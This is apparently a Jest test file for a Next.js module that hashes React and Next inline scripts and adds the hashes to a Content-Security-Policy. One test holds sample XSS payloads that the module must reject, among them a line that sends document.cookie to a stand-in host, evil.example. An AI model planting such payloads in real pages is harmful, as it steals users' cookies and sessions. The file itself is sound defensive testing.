/** @jest-environment node */
import { createHash } from 'node:crypto';
import { Writable } from 'node:stream';
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { inlineScriptSources, withScriptSources, REACT_PREFIXES, REACT_WHOLE } = require('./scriptHashes.cjs') as {
  inlineScriptSources: (html: string) => { sources: string[]; unknown: string[] };
  withScriptSources: (policy: string, sources: string[]) => string;
  REACT_PREFIXES: Set<string>;
  REACT_WHOLE: Set<string>;
};
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { reactRuntime } = require('./reactRuntime.cjs') as { reactRuntime: () => { prefixes: Set<string>; whole: Set<string> } };

const digest = (text: string) => createHash('sha256').update(text, 'utf8').digest('base64');
const hashOf = (text: string) => `'sha256-${digest(text)}'`;

/** A page as the React Next ships streams it: a boundary that resolves late and one that fails. */
async function streamedPage(): Promise<string> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const React = require('next/dist/compiled/react') as typeof import('react');
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const { renderToPipeableStream } = require('next/dist/compiled/react-dom/server.node') as typeof import('react-dom/server');
  let settle!: (value: string) => void;
  const later = new Promise<string>((resolve) => (settle = resolve));
  const Late = () => React.createElement('p', null, React.use(later));
  const Failing = () => {
    React.use(later);
    throw new Error('gagal');
  };
  const fallback = React.createElement('i', null, 'Memuat');
  const page = React.createElement('html', null, React.createElement('body', null,
    React.createElement(React.Suspense, { fallback }, React.createElement(Late)),
    React.createElement(React.Suspense, { fallback }, React.createElement(Failing))));
  return new Promise((resolve) => {
    let html = '';
    const sink = new Writable({
      write(chunk, _encoding, done) {
        html += String(chunk);
        done();
      },
      final(done) {
        resolve(html);
        done();
      },
    });
    const stream = renderToPipeableStream(page, {
      onShellReady() {
        stream.pipe(sink);
        setTimeout(() => settle('Selesai'), 10);
      },
      onError: () => undefined,
    });
  });
}

describe("a page's inline scripts (server/scriptHashes.cjs)", () => {
  const bootstrap = '(self.__next_f=self.__next_f||[]).push([0])';
  const payload = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\nè:I[7121,[],\\"\\"]\\n"])';

  it("knows React's runtime exactly as the bundles of the installed Next write it", () => {
    const installed = reactRuntime();
    expect([...REACT_PREFIXES].sort()).toEqual([...installed.prefixes].map(digest).sort());
    expect([...REACT_WHOLE].sort()).toEqual([...installed.whole].map(digest).sort());
  });

  it("hashes Next's payload and bootstrap, each once, in page order", () => {
    const html = `<html><head><script src="/_next/static/chunks/main.js" async=""></script></head><body><script>${bootstrap}</script><script>${payload}</script><script>${payload}</script></body></html>`;
    expect(inlineScriptSources(html)).toEqual({ sources: [bootstrap, payload].map(hashOf), unknown: [] });
  });

  it('hashes every script React streams for a late boundary and a failed one, and nothing else', async () => {
    const html = await streamedPage();
    const scripts = [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, text]) => text!);
    expect(scripts.some((text) => text.includes('$RC("'))).toBe(true);
    expect(scripts.some((text) => text.includes('$RX("'))).toBe(true);
    expect(inlineScriptSources(html)).toEqual({ sources: [...new Set(scripts.map(hashOf))], unknown: [] });
  });

  it('hashes UTF-8 text as the browser does', () => {
    expect(inlineScriptSources(`<script>${payload}</script>`).sources).toEqual([`'sha256-${createHash('sha256').update(Buffer.from(payload, 'utf8')).digest('base64')}'`]);
  });

  it("never hashes a script that only begins like Next's or React's, nor one of another shape", () => {
    const scripts = [
      'alert(document.cookie)',
      `${payload};alert(1)`,
      '$RC(1);alert(document.cookie)',
      '$RC("B:0","S:0");alert(1)',
      '$RB=fetch("//evil.example/"+document.cookie);$RC("B:0","S:0")',
      'requestAnimationFrame(function(){$RT=performance.now()});alert(1)',
      '$RX=function(){alert(1)};$RX("B:1")',
    ];
    const found = inlineScriptSources(scripts.map((text) => `<script>${text}</script>`).join('') + '<SCRIPT>x=1</SCRIPT>');
    expect(found.sources).toEqual([]);
    expect(found.unknown).toEqual([...scripts, 'x=1'].map((text) => text.slice(0, 40)));
  });

  it('polices every script the browser runs or the policy governs, whatever its attributes say', () => {
    const found = inlineScriptSources('<script data-src="/a.js">a()</script><script data-type="application/ld+json">b()</script><script type="text/ecmascript">c()</script><script type="importmap">{"imports":{}}</script><script type="MODULE">d()</script>');
    expect(found).toEqual({ sources: [], unknown: ['a()', 'b()', 'c()', '{"imports":{}}', 'd()'] });
  });

  it('leaves data blocks and external scripts alone', () => {
    expect(inlineScriptSources('<script type="application/ld+json">{"@type":"NewsArticle"}</script><script src="/a.js"></script><script async src=/b.js></script>')).toEqual({ sources: [], unknown: [] });
  });

  it("adds the hashes to script-src, or to a script-src made from default-src; none, the policy as it was", () => {
    expect(withScriptSources("default-src 'self'; script-src 'self' https://a.example/x.js; object-src 'none'", ["'sha256-A'", "'sha256-B'"])).toBe(
      "default-src 'self'; script-src 'self' https://a.example/x.js 'sha256-A' 'sha256-B'; object-src 'none'",
    );
    expect(withScriptSources("default-src 'self'; object-src 'none'", ["'sha256-A'"])).toBe("default-src 'self'; object-src 'none'; script-src 'self' 'sha256-A'");
    expect(withScriptSources("default-src 'self'", [])).toBe("default-src 'self'");
  });
});
